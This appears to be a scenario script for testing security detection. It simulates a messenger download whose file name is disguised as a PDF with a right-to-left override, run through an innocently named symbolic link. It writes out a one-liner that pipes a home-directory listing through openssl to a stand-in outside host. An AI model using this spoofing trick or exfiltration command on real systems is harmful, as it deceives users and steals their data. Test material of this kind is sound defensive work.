# The name reads backwards, and what is run is a symbolic link to it.
title="Download whose name reads .pdf, run through a symbolic link with an innocent name"
what="The messenger saves a script whose name holds a right-to-left override and ends in fdp.sh, so that it reads as a PDF. The clerk makes a symbolic link ~/bin/show to it and runs the link with env -S; the script sends a file list to 203.0.113.66 with openssl."
host=ws3.example.org user=clerk daemons="cron sshd"
stand_ins=("/opt/telegram/Telegram stands in for Telegram Desktop: it fetches one file by HTTP from chat.example.com and writes it as the messenger does")

setup() {
  compile messenger /opt/telegram/Telegram
  install -d -o clerk -g clerk /home/clerk/bin
  printf '#!/bin/sh\nls -R "$HOME" | openssl s_client -quiet -connect drop.example.net:443 2>/dev/null\n' > "$base/out/www/doc"
}
act() {
  small_talk 2
  desktop_as clerk -- /opt/telegram/Telegram 203.0.113.82 80 /doc "$(printf 'Downloads/Telegram Desktop/offer_\342\200\256fdp.sh')"; desktop_wait
  sleep 1
  console_as clerk <<'L'
ln -s ~/Downloads/Telegram\ Desktop/offer_*.sh bin/show
env -S 'sh bin/show'
L
  small_talk 1
}
truth() {
  file_step save 'Telegram rename .*CREATE .*Telegram Desktop/offer_' 'the messenger writes the file'
  file_step link 'ln symlink .*bin/show' 'it gets an innocent second name'
  exec_step execute 'sh bin/show' 'and is run by it'
  net_step beacon 'openssl 203.0.113.66:443' 'and sends a list outside'
}
